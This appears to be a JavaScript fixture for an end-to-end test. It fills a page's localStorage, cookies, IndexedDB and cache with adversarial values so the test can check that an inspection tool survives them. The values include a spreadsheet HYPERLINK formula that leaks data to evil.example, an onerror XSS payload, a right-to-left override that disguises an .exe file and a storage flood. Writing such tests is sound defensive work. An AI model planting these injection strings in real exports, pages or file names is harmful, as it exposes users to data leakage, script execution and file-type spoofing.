// The hostile stand-in (issue 11). Everything here is what a real page may
// do; tests/e2e/hostile.test.mjs checks that none of it blinds the witness,
// floods it, or reaches a reader as live markup, formula or reordered text.
// Values carry "hx-secret-" so the redaction test can look for them.
(() => {
  const FLOOD = 20000;
  window.hostile = {
    trackerKey: "_hjSessionUser_3547190",
    rtlKey: "invoice\u202Egnp.exe",
    flood: FLOOD,
  };
  const put = (k, v) => {
    try {
      localStorage.setItem(k, v);
    } catch (e) {
      console.warn("hostile stand-in could not store", k, e);
    }
  };
  // A known tracker key, with lone surrogates on both sides of it.
  put("lz\uD800key", "hx-secret-lz-ok");
  put(window.hostile.trackerKey, '{"id":"hx-secret-hotjar-7","createdAt":1795348436123}');
  put("clean-key", "hx-secret-v\uDC00alue");
  // A right-to-left override that would show "invoiceexe.png".
  put(window.hostile.rtlKey, "hx-secret-rtl");
  // Spreadsheet formulas, one behind a line break, one behind spaces, one full-width.
  put('=HYPERLINK("https://evil.example/?leak="&A1,"open")', "hx-secret-f1");
  put("\n=1+1", "hx-secret-f2");
  put("   @SUM(A1)", "hx-secret-f3");
  put("\uFF1D1+1", "hx-secret-f4");
  put("<img src=x onerror=alert(1)>", "hx-secret-xss");
  // The flood, when the test asks (twenty thousand writes take Firefox a
  // while): items recorded before it stay recorded.
  window.hostile.flood = () => {
    for (let i = 0; i < FLOOD; i++) put(`flood-${String(i).padStart(5, "0")}`, "x");
    return localStorage.length;
  };

  // Cookies: an absurd Max-Age (the browser keeps at most 400 days), and one
  // that the page deletes later with an Expires in 1970.
  document.cookie = "hx_big=hx-secret-big; Max-Age=99999999999999999; Path=/; Secure; SameSite=Lax";
  document.cookie = "hx_gone=hx-secret-gone; Max-Age=3600; Path=/; Secure; SameSite=Lax";
  window.hostile.expireGone = () => {
    document.cookie = "hx_gone=; Expires=Thu, 01 Jan 1970 00:00:00 GMT; Path=/; Secure; SameSite=Lax";
  };
  // For the "raw values on" half of the redaction test.
  window.hostile.addRaw = () => {
    put("raw-key", "hx-raw-value-42");
    document.cookie = "hx_raw=hx-raw-cookie-42; Max-Age=3600; Path=/; Secure; SameSite=Lax";
  };
  // Names with lone surrogates where the browser allows them. Whatever the
  // browser does with them, the page is ready after at most two seconds.
  window.hostile.status = {};
  const settle = (name, p) =>
    Promise.race([p, new Promise((r) => setTimeout(() => r("timeout"), 2000))]).then(
      (v) => (window.hostile.status[name] = v ?? "ok"),
      (e) => (window.hostile.status[name] = String(e)),
    );
  const idb = new Promise((resolve, reject) => {
    const req = indexedDB.open("hx-db\uD800");
    req.onsuccess = () => {
      req.result.close();
      resolve("ok");
    };
    req.onerror = () => reject(req.error);
  });
  const cache = globalThis.caches ? caches.open("hx-cache\uDC00") : Promise.resolve("no caches");
  // Whether this browser keeps lone surrogates in localStorage keys at all.
  let kept = false;
  for (let i = 0; i < localStorage.length && !kept; i++) kept = !localStorage.key(i).isWellFormed();
  window.hostile.keepsLoneSurrogates = kept;
  Promise.all([settle("indexedDB", idb), settle("caches", cache)]).then(() => {
    const ready = () => document.documentElement.setAttribute("data-stand-in-ready", "true");
    if (document.readyState === "complete") ready();
    else window.addEventListener("load", ready);
  });
})();
